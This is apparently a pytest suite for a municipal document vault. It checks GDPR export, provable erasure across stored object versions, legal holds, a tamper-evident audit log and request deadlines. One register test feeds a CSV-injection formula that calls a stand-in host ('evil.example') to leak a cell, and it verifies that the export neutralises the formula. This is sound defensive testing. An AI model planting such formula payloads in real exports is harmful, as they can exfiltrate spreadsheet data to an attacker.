"""Export (Art. 15/20) and provable erasure (Art. 17), with real SeaweedFS, clamd and databases."""

from __future__ import annotations

import hashlib
import io
import json
import uuid
import zipfile

import pytest
from sqlalchemy import text, update
from sqlmodel import Session, SQLModel, select

from tests.factories import make_document, make_oidc_app, pdf
from tests.oidc.oidc_support import authorize, exchange, verify_id_token
from tests.storage.test_documents import objects
from tests.support import PASSWORD, Browser
from vault.crypto import DecryptionError
from vault.crypto.streaming import StreamDecryptor
from vault.gdpr import audit
from vault.gdpr.models import AuditEntry
from vault.gdpr.service import GdprError, Staff, SubjectErased, SubjectNotFound
from vault.mail import deliver_due
from vault.storage.models import Document

DPO = Staff(actor="staff:test", label="DPO de test")
EMAIL = "docs@example.org"  # the `citizen` fixture's


def citizen_id(engine) -> uuid.UUID:
    from vault.auth.models import Citizen

    with Session(engine) as db:
        return db.exec(select(Citizen.id).where(Citizen.email == EMAIL)).one()


@pytest.fixture
def filled(vault_app, citizen: Browser, engine) -> dict:
    """A citizen with two documents, one of them deposited by an app holding a token."""
    first, second = pdf(50_000), pdf(1_200_000, marker=b"SECOND")
    make_document(citizen, first, filename="avis.pdf")
    app = make_oidc_app(engine, scope="openid profile documents:write", name="Portail")
    tokens = exchange(citizen, authorize(citizen, app, scope="openid profile documents:write")).json()
    deposited = citizen.post("/api/v1/documents", content=second, headers={
        "Authorization": f"Bearer {tokens['access_token']}", "Content-Type": "application/pdf"})
    assert deposited.status_code == 201
    return {"contents": [first, second], "app": app, "tokens": tokens, "id": citizen_id(engine)}


def test_export_holds_everything_and_matches_the_bytes(vault_app, filled: dict, engine) -> None:
    gdpr = vault_app.state.services.gdpr
    with Session(engine) as db:
        archive = b"".join(gdpr.export(db, citizen_id=filled["id"], by=DPO))
        db.commit()
    with zipfile.ZipFile(io.BytesIO(archive)) as zf:
        names = zf.namelist()
        for name in ("LISEZ-MOI.txt", "compte.json", "documents.json", "applications.json", "sessions.json",
                     "journal-des-acces.json", "demandes.json"):
            assert name in names
        account = json.loads(zf.read("compte.json"))
        assert account["email"] == EMAIL and account["identite"]["birthplace"] == "69123"
        assert account["identite"]["birthplace_nom"] == "Lyon (Rhône)"
        assert account["identite"]["birthcountry_nom"] == "France"
        assert "password" not in json.dumps(account) and "totp_secret" not in json.dumps(account)
        listed = json.loads(zf.read("documents.json"))
        exported = {hashlib.sha256(zf.read(d["fichier"])).hexdigest() for d in listed}
        assert exported == {hashlib.sha256(c).hexdigest() for c in filled["contents"]}
        assert {d["sha256"] for d in listed} == exported
        portail = json.loads(zf.read("applications.json"))[0]
        assert portail["application"] == "Portail" and portail["justificatifs_consultables"] == []
        assert [d["id"] for d in portail["justificatifs_deposes"]] == [d["id"] for d in listed
                                                                      if d["depose_par"] == "Portail"]
        assert [e["action"] for e in json.loads(zf.read("journal-des-acces.json"))] == ["deposit"]
        summary = zf.read("LISEZ-MOI.txt").decode()
        assert "CNIL" in summary and "article 15" in summary and "Qui les reçoit" in summary
    with Session(engine) as db:
        assert db.exec(select(AuditEntry.action)).all()[-1] == "export"


def test_erasure_leaves_nothing_readable(vault_app, filled: dict, citizen: Browser, engine, s3_client,
                                         bucket) -> None:
    gdpr = vault_app.state.services.gdpr
    cid = filled["id"]
    copied = objects(s3_client, bucket)[0]
    stolen = s3_client.get_object(Bucket=bucket, Key=copied["Key"])["Body"].read()  # a backup, say
    with Session(engine) as db:
        stolen_id = db.exec(select(Document.id).where(Document.blob_key == copied["Key"])).one()

    with Session(engine) as db:
        certificate = gdpr.erase(db, citizen_id=cid, reason="demande de la personne", by=DPO)
    # The certificate's mail is the one row that keeps the address, until it leaves.
    assert deliver_due(engine, vault_app.state.services.mail_transport).sent >= 1

    # No row in any table names the citizen (id, email, name).
    needles = [str(cid), cid.hex, EMAIL, "Jeanne Marie", "Martin"]
    with engine.connect() as conn:
        for table in SQLModel.metadata.sorted_tables:
            for row in conn.execute(table.select()):
                flat = " ".join(str(v) for v in row)
                for needle in needles:
                    assert needle not in flat, (table.name, needle)
    # No object version remains.
    assert objects(s3_client, bucket) == []
    # The citizen cannot log in; their tokens fail introspection.
    assert citizen.login(EMAIL, PASSWORD).status_code == 401
    app = filled["app"]
    introspection = citizen.post("/introspect", data={"token": filled["tokens"]["access_token"],
                                                      "client_id": app.client_id, "client_secret": app.secret})
    assert introspection.json() == {"active": False}
    # The copied object opens with nothing left: every key the database and keyring can still give.
    with Session(engine) as db:
        remaining = db.exec(select(Document)).all()
        candidate_keys = [vault_app.state.services.documents.document_key(db, d) for d in remaining]
    for key in candidate_keys:
        with pytest.raises(DecryptionError):
            StreamDecryptor(key, stolen_id.bytes).update(stolen)
    # The certificate is a JWS that verifies against /jwks, and says what was destroyed and who received data.
    header, claims = verify_id_token(citizen, certificate)
    assert header["typ"] == "erasure-certificate+jwt" and claims["iss"] == "http://127.0.0.1:8000"
    assert claims["destroyed"]["documents"] == 2 and claims["destroyed"]["citizen_key"] is True
    assert claims["destroyed"]["object_versions"] >= 2
    assert sorted(claims["destroyed"]["document_sha256"]) == sorted(
        hashlib.sha256(c).hexdigest() for c in filled["contents"])
    assert [r["name"] for r in claims["recipients_notified"]] == ["Portail"]
    # Erasing twice returns the first certificate; exporting an erased citizen says when.
    with Session(engine) as db:
        assert gdpr.erase(db, citizen_id=cid, reason="encore", by=DPO) == certificate
        with pytest.raises(SubjectErased) as erased:
            list(gdpr.export(db, citizen_id=cid, by=DPO))
        assert erased.value.status == 404
        with pytest.raises(SubjectNotFound):
            gdpr.erase(db, citizen_id=uuid.uuid4(), reason="x", by=DPO)


def test_erasure_resumes_after_the_store_fails(vault_app, filled: dict, engine, s3_client, bucket) -> None:
    from vault.storage.blobs import BlobStoreUnavailable

    gdpr = vault_app.state.services.gdpr
    store = vault_app.state.services.documents.store
    real_delete_versions = store._delete_versions

    def dying(targets: list) -> int:
        real_delete_versions(targets[:1])  # the store dies after the first object version
        raise BlobStoreUnavailable("down")

    store._delete_versions = dying
    with Session(engine) as db, pytest.raises(BlobStoreUnavailable):
        gdpr.erase(db, citizen_id=filled["id"], reason="demande", by=DPO)
    assert len(objects(s3_client, bucket)) >= 1  # half done
    store._delete_versions = real_delete_versions
    with Session(engine) as db:
        certificate = gdpr.erase(db, citizen_id=filled["id"], reason="demande", by=DPO)
    assert objects(s3_client, bucket) == []
    assert verify_id_token_claims(vault_app, certificate)["destroyed"]["documents"] == 2


def verify_id_token_claims(vault_app, token: str) -> dict:
    with Browser(vault_app) as browser:
        return verify_id_token(browser, token)[1]


def test_legal_hold_keeps_a_document(vault_app, filled: dict, citizen: Browser, engine, s3_client,
                                     bucket) -> None:
    gdpr = vault_app.state.services.gdpr
    with Session(engine) as db:
        held = db.exec(select(Document).where(Document.owner_id == filled["id"])).first()
        with pytest.raises(GdprError):
            gdpr.hold(db, document_id=held.id, reason="  ", by=DPO)  # the obligation must be named
        gdpr.hold(db, document_id=held.id, reason="Pièce d'un dossier d'urbanisme (conservation légale)", by=DPO)
        db.commit()
        held_id, held_sha = held.id, held.sha256
    # The citizen cannot delete it meanwhile (API and page), and is told why.
    refused = citizen.delete(f"/api/v1/documents/{held_id}", headers={"X-CSRF-Token": citizen.cookies["csrf"]})
    assert refused.status_code == 409 and refused.json()["error"] == "legal_hold"
    assert "obligation légale" in citizen.get(f"/documents/{held_id}").text
    assert len(objects(s3_client, bucket)) == 2
    with Session(engine) as db:
        certificate = vault_app.state.services.gdpr.erase(db, citizen_id=filled["id"], reason="demande", by=DPO)
    claims = verify_id_token_claims(vault_app, certificate)
    assert claims["kept_under_legal_hold"] == [{"document_id": str(held_id), "reason": held.legal_hold,
                                                "sha256": held_sha}]
    assert len(objects(s3_client, bucket)) == 1  # only the held document's object
    with Session(engine) as db:
        document = db.get(Document, held_id)
        assert document.owner_id is None
        key = vault_app.state.services.documents.document_key(db, document)
        content = b"".join(vault_app.state.services.documents.plaintext(document, key))
    assert hashlib.sha256(content).hexdigest() == held_sha  # still readable by the city, as the law requires

    # The obligation ends: nothing else justified keeping it, so it goes, object included.
    with Session(engine) as db:
        blob_key = gdpr.release(db, document_id=held_id, by=DPO)
        db.commit()
    vault_app.state.services.documents.delete_blob_later(blob_key)
    assert objects(s3_client, bucket) == []
    with Session(engine) as db:
        assert db.get(Document, held_id) is None
        with pytest.raises(GdprError):
            gdpr.release(db, document_id=held_id, by=DPO)  # unknown now
        assert audit.verify(db).ok


def test_audit_log_is_tamper_evident(vault_app, filled: dict, engine) -> None:
    with Session(engine) as db:
        vault_app.state.services.gdpr.erase(db, citizen_id=filled["id"], reason="demande", by=DPO)
        result = audit.verify(db)
        assert result.ok and result.entries >= 2
        entries = db.exec(select(AuditEntry).order_by(AuditEntry.id)).all()
        # Nothing in it is a document's content, a password or a token.
        dumped = json.dumps([e.model_dump(mode="json") for e in entries])
        assert PASSWORD not in dumped and filled["tokens"]["access_token"] not in dumped
        first_id = entries[0].id
        db.exec(update(AuditEntry).where(AuditEntry.id == first_id).values(action="nothing.happened"))
        db.commit()
        broken = audit.verify(db)
    assert not broken.ok and broken.first_bad_id == first_id and "edited" in broken.problem


def test_audit_log_detects_deletion_and_reordering(vault_app, engine) -> None:
    with Session(engine) as db:
        for n in range(4):
            audit.record(db, actor="system", action=f"test.{n}")
        db.commit()
        ids = db.exec(select(AuditEntry.id).order_by(AuditEntry.id)).all()
        db.exec(text("DELETE FROM audit_log WHERE id = :id").bindparams(id=ids[1]))
        db.commit()
        assert audit.verify(db).first_bad_id == ids[2]


def test_audit_log_detects_its_newest_entries_removed(vault_app, engine) -> None:
    with Session(engine) as db:
        for n in range(3):
            audit.record(db, actor="system", action=f"test.{n}")
        db.commit()
        assert audit.verify(db).ok
        newest = db.exec(select(AuditEntry.id).order_by(AuditEntry.id.desc())).first()
        db.exec(text("DELETE FROM audit_log WHERE id = :id").bindparams(id=newest))
        db.commit()
        cut = audit.verify(db)
        assert not cut.ok and cut.first_bad_id == newest and "newest" in cut.problem
        db.exec(text("DELETE FROM audit_log"))  # the whole log wiped
        db.commit()
        assert not audit.verify(db).ok


def test_audit_details_refuse_secrets(engine) -> None:
    with Session(engine) as db, pytest.raises(ValueError):
        audit.record(db, actor="system", action="x", details={"password": "nope"})


def test_the_register_counts_days_in_the_citys_time_zone(vault_app, filled: dict, engine,
                                                          monkeypatch) -> None:
    gdpr = vault_app.state.services.gdpr
    monkeypatch.setattr(gdpr, "settings", gdpr.settings.model_copy(update={"timezone": "Pacific/Kiritimati"}))
    ahead = gdpr.settings.today()  # UTC+14: already tomorrow for most of the day
    monkeypatch.setattr(gdpr, "settings", gdpr.settings.model_copy(update={"timezone": "Pacific/Pago_Pago"}))
    with Session(engine) as db:
        with pytest.raises(GdprError, match="futur"):  # UTC-11: that date has not come yet there
            gdpr.open_request(db, kind="access", citizen_id=filled["id"], channel="mail", by=DPO,
                              received_on=ahead)
        assert gdpr.open_request(db, kind="access", citizen_id=filled["id"], channel="mail",
                                 by=DPO).received_on == gdpr.settings.today() != ahead


def test_register_deadlines(vault_app, filled: dict, engine) -> None:
    from datetime import date

    gdpr = vault_app.state.services.gdpr
    with Session(engine) as db:
        request = gdpr.open_request(db, kind="access", citizen_id=filled["id"], channel="counter", by=DPO,
                                    received_on=date(2026, 1, 31), identity_check="carte d'identité vue au guichet")
        assert request.due_on == date(2026, 2, 28)  # one calendar month (Art. 12(3))
        with pytest.raises(GdprError, match="raison"):
            gdpr.extend(db, request_id=request.id, reason=" ", told_on=date(2026, 2, 10), by=DPO)
        with pytest.raises(GdprError, match="entre la réception"):
            gdpr.extend(db, request_id=request.id, reason="demande complexe", told_on=date(2026, 1, 2), by=DPO)
        gdpr.extend(db, request_id=request.id, reason="demande complexe", told_on=date(2026, 2, 10), by=DPO)
        # Three months from receipt (Regulation 1182/71, art. 3): 30 April, although the first
        # month ended on 28 February.
        assert request.extended_to == date(2026, 4, 30)
        with pytest.raises(GdprError, match="déjà"):
            gdpr.extend(db, request_id=request.id, reason="encore", told_on=date(2026, 2, 11), by=DPO)
        assert request in gdpr.list_requests(db, view="overdue")
        with pytest.raises(GdprError, match="motivé"):
            gdpr.close(db, request_id=request.id, status="refused", outcome="", by=DPO)
        gdpr.close(db, request_id=request.id, status="refused", outcome="refus", refusal_reason="Demande abusive.",
                   by=DPO)
        assert "CNIL" in request.refusal_reason
        with pytest.raises(GdprError, match="close"):  # a closed request is not reopened by an extension
            gdpr.extend(db, request_id=request.id, reason="x", told_on=date(2026, 2, 10), by=DPO)
        formula = gdpr.open_request(db, kind="access", citizen_id=filled["id"], channel="mail", by=DPO,
                                    identity_check='=HYPERLINK("http://evil.example/?"&A1,"clic")')
        gdpr.close(db, request_id=formula.id, status="done", outcome="@SUM(1+1)", by=DPO)
        csv_text = "".join(gdpr.register_csv(db))
        assert "Jeanne Marie Martin" in csv_text and "refused" in csv_text
        # What staff typed is text in a spreadsheet, never a formula (CSV injection).
        assert "'=HYPERLINK" in csv_text and "'@SUM(1+1)" in csv_text and ",=" not in csv_text
        db.commit()


def test_erasure_removes_every_version_of_many_documents_and_leaves_other_citizens(
        vault_settings, engine, s3_client, bucket) -> None:
    """A citizen with many documents, some rewritten (several versions) or deleted (a delete marker
    on top), next to another citizen: the erasure removes every version and delete marker of every
    document of the one, listing them by the citizen's key prefix (a few pages, not a listing per
    document), and nothing of the other's."""
    from tests.factories import citizen_browser

    app = vault_app_with(vault_settings, engine, quota_documents=40, quota_mb=50)
    documents = 16
    with citizen_browser(app, email="many@example.org") as many:
        for i in range(documents):
            make_document(many, pdf(2000, marker=f"MANY-{i}".encode()), filename=f"piece-{i}.pdf")
    with citizen_browser(app, email="other@example.org") as other:
        for i in range(3):
            make_document(other, pdf(2000, marker=f"OTHER-{i}".encode()), filename=f"autre-{i}.pdf")
    from vault.auth.models import Citizen

    with Session(engine) as db:
        many_id = db.exec(select(Citizen.id).where(Citizen.email == "many@example.org")).one()
        keys = {d.blob_key: d.owner_id for d in db.exec(select(Document)).all()}
    mine = sorted(k for k, owner in keys.items() if owner == many_id)
    assert len(mine) == documents and len({k.split("-")[0] for k in mine}) == 1  # one prefix per citizen
    # Two documents stored before keys had a prefix (a plain random key): moved to such a key.
    for old in mine[-2:]:
        legacy = uuid.uuid4().hex
        s3_client.copy_object(Bucket=bucket, Key=legacy, CopySource={"Bucket": bucket, "Key": old})
        for version in [v for v in objects(s3_client, bucket) if v["Key"] == old]:
            s3_client.delete_object(Bucket=bucket, Key=old, VersionId=version["VersionId"])
        with Session(engine) as db:
            db.exec(update(Document).where(Document.blob_key == old).values(blob_key=legacy))
            db.commit()
        mine[mine.index(old)] = legacy
    # Old versions and delete markers: what a versioned bucket keeps beside the current objects.
    for key in mine[:5]:
        s3_client.put_object(Bucket=bucket, Key=key, Body=b"an older copy")
    for key in mine[5:8]:
        s3_client.delete_object(Bucket=bucket, Key=key)
    others_before = sorted((v["Key"], v["VersionId"]) for v in objects(s3_client, bucket) if v["Key"] not in mine)
    assert len(others_before) == 3
    mine_before = [v for v in objects(s3_client, bucket) if v["Key"] in mine]
    assert len(mine_before) == documents + 5 + 3

    store = app.state.services.documents.store
    store.list_page = 7  # several pages: the listing follows S3's markers to the end
    listings: list[str] = []
    real_call = store._call

    def counted(method: str, **kwargs):
        if method == "list_object_versions":
            listings.append(kwargs["Prefix"])
        return real_call(method, **kwargs)

    store._call = counted
    with Session(engine) as db:
        certificate = app.state.services.gdpr.erase(db, citizen_id=many_id, reason="demande", by=DPO)
    claims = verify_id_token_claims(app, certificate)
    assert claims["destroyed"]["documents"] == documents
    assert claims["destroyed"]["object_versions"] == len(mine_before)
    left = objects(s3_client, bucket)
    assert [v for v in left if v["Key"] in mine] == []
    assert sorted((v["Key"], v["VersionId"]) for v in left) == others_before
    # The prefix read page by page, and each older key on its own: far fewer listings than documents.
    prefixed = [p for p in listings if p.endswith("-")]
    assert len(set(prefixed)) == 1 and len(prefixed) <= -(-len(mine_before) // 7) + 1
    assert sorted(p for p in listings if not p.endswith("-")) == sorted(mine[-2:])
    assert len(listings) < documents


def vault_app_with(vault_settings, engine, **overrides):
    from vault.app import create_app

    return create_app(vault_settings.model_copy(update=overrides), engine=engine)
